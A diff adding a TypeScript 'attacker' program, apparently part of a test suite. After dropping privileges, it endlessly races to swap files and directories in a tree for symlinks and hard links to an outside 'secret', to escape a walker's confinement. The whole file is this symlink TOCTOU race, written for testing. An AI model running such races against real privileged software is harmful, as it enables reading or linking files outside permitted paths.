@@ -1,0 +1,47 @@
+/**
+ * The old owner of a tree, with a descriptor into it from before: swaps directories for symlinks, files for symlinks and
+ * for names of others' inodes, and moves directories about, as fast as it can. Run as a program: attacker TREE OUTSIDE UID.
+ */
+import { linkSync, mkdirSync, openSync, renameSync, symlinkSync, unlinkSync } from 'node:fs';
+
+const [tree, outside, uid] = process.argv.slice(2);
+if (tree === undefined || outside === undefined || uid === undefined || process.setgid === undefined) {
+  throw new TypeError('usage: attacker TREE OUTSIDE UID');
+}
+// A path from the top leads nowhere as soon as that is marked; what is open stays open.
+const held = (path: string) => `/proc/self/fd/${openSync(`${tree}/${path}`, 'r')}`;
+const parents = ['.', 'shared', 'deep/a'].map(held);
+const deep = held('deep');
+process.setgroups?.([]);
+process.setgid(Number(uid));
+process.setuid?.(Number(uid));
+
+/** A step that the race was lost for is the usual case; the next one may be in time. */
+function attempt(action: () => void): void {
+  try {
+    action();
+  } catch (error) {
+    if (!(error instanceof Error && 'code' in error)) {
+      throw error;
+    }
+  }
+}
+
+for (let round = 0; ; round++) {
+  for (const parent of parents) {
+    const victim = `${parent}/swap`;
+    attempt(() => renameSync(victim, `${parent}/away`));
+    attempt(() => symlinkSync(outside, victim));
+    attempt(() => unlinkSync(victim));
+    attempt(() => renameSync(`${parent}/away`, victim));
+    attempt(() => renameSync(`${parent}/file`, `${parent}/file-away`));
+    attempt(() => symlinkSync(`${outside}/secret`, `${parent}/file`));
+    attempt(() => unlinkSync(`${parent}/file`));
+    attempt(() => linkSync(`${outside}/linkable`, `${parent}/file`));
+    attempt(() => unlinkSync(`${parent}/file`));
+    attempt(() => renameSync(`${parent}/file-away`, `${parent}/file`));
+  }
+  attempt(() => renameSync(`${deep}/a`, `${deep}/${round % 2 === 0 ? 'b' : 'c'}`));
+  attempt(() => renameSync(`${deep}/${round % 2 === 0 ? 'b' : 'c'}`, `${deep}/a`));
+  attempt(() => mkdirSync(`${parents[1]}/new`));
+}
